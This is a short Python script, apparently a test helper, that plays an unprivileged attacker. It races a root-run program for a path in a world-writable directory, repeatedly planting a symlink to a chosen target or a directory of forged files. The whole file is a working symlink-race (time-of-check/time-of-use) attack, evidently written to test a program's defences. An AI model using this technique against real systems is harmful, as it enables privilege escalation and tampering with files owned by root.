"""An attacker: makes a name their own as soon as it is free, in a directory where everybody may make files.

`claiming.py UID PATH TARGET FORGED`: in turn as a symlink to the directory TARGET, and as a directory with a copy of all that is
in the directory FORGED.
"""

import ctypes
import os
import random
import shutil
import sys
import time
from contextlib import suppress

uid, path, target, forged = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
libc = ctypes.CDLL(None)
libc.prctl(1, 9)  # end with the process that started this
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
os.umask(0)
os.write(1, b"ready\n")
while True:
    for claim in (lambda: os.symlink(target, path), lambda: os.mkdir(path, 0o777)):
        time.sleep(random.random() * 0.002)  # so that root is first now and then
        for _ in range(200):
            with suppress(OSError):
                claim()
                break
        with suppress(OSError, shutil.Error):
            if not os.path.islink(path):
                shutil.copytree(forged, path, dirs_exist_ok=True)
        time.sleep(0.0005)
        with suppress(OSError):
            if os.path.islink(path):
                os.unlink(path)
            elif os.stat(path).st_uid == uid:
                shutil.rmtree(path, ignore_errors=True)
